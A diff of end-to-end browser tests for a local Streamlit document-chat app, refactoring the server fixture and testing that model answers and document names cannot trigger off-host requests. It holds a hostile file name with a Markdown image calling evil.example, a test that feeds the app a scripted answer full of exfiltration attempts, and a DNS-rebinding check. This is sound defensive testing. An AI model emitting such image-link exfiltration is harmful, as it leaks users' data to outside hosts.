@@ -49,7 +49,7 @@ FAKES = {
 HOSTILE_NAME = "x.![](http:evil.example?q=name).md"
 
 pytestmark = pytest.mark.slow
-StartApp = Callable[[dict[str, str]], str]
+Condition = Callable[[WebDriver], object]
 
 
 def wait_for_health(url: str, server: subprocess.Popen[bytes], log: Path) -> None:
@@ -66,40 +66,59 @@ def wait_for_health(url: str, server: subprocess.Popen[bytes], log: Path) -> Non
     pytest.fail(f"streamlit did not answer on {url} within {START_TIMEOUT} s:\n{log.read_text()}")
 
 
-@pytest.fixture
-def start_app(tmp_path: Path) -> Iterator[StartApp]:
-    """Start ``streamlit run app.py`` (its own .streamlit/config.toml) on a free port.
+class Apps:
+    """``streamlit run app.py`` (with its own .streamlit/config.toml) on free loopback ports."""
 
-    Empty tmp folders; ``environment`` adds settings. Returns the page's URL.
-    """
-    servers: list[subprocess.Popen[bytes]] = []
+    def __init__(self, folder: Path) -> None:
+        self.folder = folder
+        self.servers: list[tuple[subprocess.Popen[bytes], Path]] = []
 
-    def start(environment: dict[str, str]) -> str:
+    def start(self, environment: dict[str, str]) -> str:
+        """Start the page on the tmp folders, with ``environment`` added; return its URL."""
         port = free_port()
-        (tmp_path / "docs").mkdir(exist_ok=True)
+        (self.folder / "docs").mkdir(exist_ok=True)
         env = {
             **os.environ,
-            "GPT4ALL_RAG_DOCUMENTS_DIR": str(tmp_path / "docs"),
-            "GPT4ALL_RAG_INDEX_DIR": str(tmp_path / "index"),
+            "GPT4ALL_RAG_DOCUMENTS_DIR": str(self.folder / "docs"),
+            "GPT4ALL_RAG_INDEX_DIR": str(self.folder / "index"),
             **environment,
         }
         env.pop("GPT4ALL_RAG_MODEL_PATH", None)
-        log = tmp_path / "streamlit.log"
+        log = self.folder / f"streamlit-{port}.log"
         command = [sys.executable, "-m", "streamlit", "run", "app.py", "--server.port", str(port)]
         with log.open("wb") as out:
             server = subprocess.Popen(
                 command, cwd=ROOT, env=env, stdout=out, stderr=subprocess.STDOUT
             )
-        servers.append(server)
+        self.servers.append((server, log))
         url = f"http://{LOOPBACK}:{port}"
         wait_for_health(url, server, log)
         return url
 
-    try:
-        yield start
-    finally:
-        for server in servers:
+    def serving(self, condition: Condition) -> Condition:
+        """``condition``, failing at once (with the server's log) if a server has died."""
+
+        def check(driver: WebDriver) -> object:
+            for server, log in self.servers:
+                if server.poll() is not None:
+                    tail = log.read_text(errors="replace")[-6000:]
+                    pytest.fail(f"streamlit exited with {server.returncode}:\n{tail}")
+            return condition(driver)
+
+        return check
+
+    def stop(self) -> None:
+        for server, _ in self.servers:
             stop_process(server, timeout=15)
+
+
+@pytest.fixture
+def apps(tmp_path: Path) -> Iterator[Apps]:
+    started = Apps(tmp_path)
+    try:
+        yield started
+    finally:
+        started.stop()
 
 
 def find_program(*names: str) -> str:
@@ -177,18 +196,19 @@ def chat_texts(driver: WebDriver) -> list[str]:
     return [m.text for m in driver.find_elements(By.CSS_SELECTOR, css)]
 
 
-def test_upload_ask_and_see_the_cited_page(start_app: StartApp, browser: WebDriver) -> None:
-    browser.get(start_app({}))
+def test_upload_ask_and_see_the_cited_page(apps: Apps, browser: WebDriver) -> None:
+    browser.get(apps.start({}))
     wait = WebDriverWait(browser, INDEX_TIMEOUT)
-    wait.until(lambda d: "Indexed (0)" in sidebar_text(d))
+    wait.until(apps.serving(lambda d: "Indexed (0)" in sidebar_text(d)))
 
     file_input = (By.CSS_SELECTOR, '[data-testid="stSidebar"] input[type="file"]')
     upload = wait.until(ec.presence_of_element_located(file_input))
     upload.send_keys(str(MANUAL))
-    wait.until(lambda d: "manual.pdf\n3 chunks" in sidebar_text(d))
+    wait.until(apps.serving(lambda d: "manual.pdf\n3 chunks" in sidebar_text(d)))
 
     send_question(browser, QUESTION)
-    WebDriverWait(browser, ANSWER_TIMEOUT).until(lambda d: len(source_summaries(d)) >= 1)
+    answered = apps.serving(lambda d: len(source_summaries(d)) >= 1)
+    WebDriverWait(browser, ANSWER_TIMEOUT).until(answered)
 
     labels = [s.text for s in source_summaries(browser)]
     assert "manual.pdf · page 2" in labels[0], labels
@@ -208,7 +228,7 @@ def test_upload_ask_and_see_the_cited_page(start_app: StartApp, browser: WebDriv
 
 
 def test_an_answer_full_of_exfiltration_attempts_requests_nothing_off_loopback(
-    start_app: StartApp, browser: WebDriver, tmp_path: Path
+    apps: Apps, browser: WebDriver, tmp_path: Path
 ) -> None:
     # Issue 10, item 1: the scripted model writes every variant at once; issue 10, item 9:
     # a document's name is Markdown for an image. The browser must fetch none of them.
@@ -216,14 +236,17 @@ def test_an_answer_full_of_exfiltration_attempts_requests_nothing_off_loopback(
     (tmp_path / "docs").mkdir()
     shutil.copy(MANUAL, tmp_path / "docs" / "manual.pdf")
     (tmp_path / "docs" / HOSTILE_NAME).write_text("# Zorblax\n\nThe Zorblax core temperature.\n")
-    url = start_app({**FAKES, "GPT4ALL_RAG_SCRIPTED_REPLIES": json.dumps([hostile])})
+    url = apps.start({**FAKES, "GPT4ALL_RAG_SCRIPTED_REPLIES": json.dumps([hostile])})
     requested_urls(browser)  # what the browser did on its own before the page
     browser.get(url)
-    WebDriverWait(browser, INDEX_TIMEOUT).until(lambda d: "Indexed (2)" in sidebar_text(d))
+    WebDriverWait(browser, INDEX_TIMEOUT).until(
+        apps.serving(lambda d: "Indexed (2)" in sidebar_text(d))
+    )
     requested = requested_urls(browser)
 
     send_question(browser, QUESTION)
-    WebDriverWait(browser, ANSWER_TIMEOUT).until(lambda d: len(source_summaries(d)) >= 2)
+    answered = apps.serving(lambda d: len(source_summaries(d)) >= 2)
+    WebDriverWait(browser, ANSWER_TIMEOUT).until(answered)
     for summary in source_summaries(browser):  # the passages, shown
         browser.execute_script("arguments[0].click()", summary)
     time.sleep(2)  # what the page would load, it loads now
@@ -242,10 +265,10 @@ def test_an_answer_full_of_exfiltration_attempts_requests_nothing_off_loopback(
     assert HOSTILE_NAME in sidebar_text(browser)
 
 
-def test_the_app_refuses_other_host_names(start_app: StartApp) -> None:
+def test_the_app_refuses_other_host_names(apps: Apps) -> None:
     # Issue 10, item 4 (DNS rebinding): a page on evil.example whose name resolves to
     # 127.0.0.1 reaches the port, but its Host header is not ours.
-    url = start_app(FAKES).replace("http://", "ws://") + "/_stcore/stream"
+    url = apps.start(FAKES).replace("http://", "ws://") + "/_stcore/stream"
 
     with pytest.raises(websocket.WebSocketBadStatusException) as refused:
         websocket.create_connection(url, host="evil.example", suppress_origin=True, timeout=10)
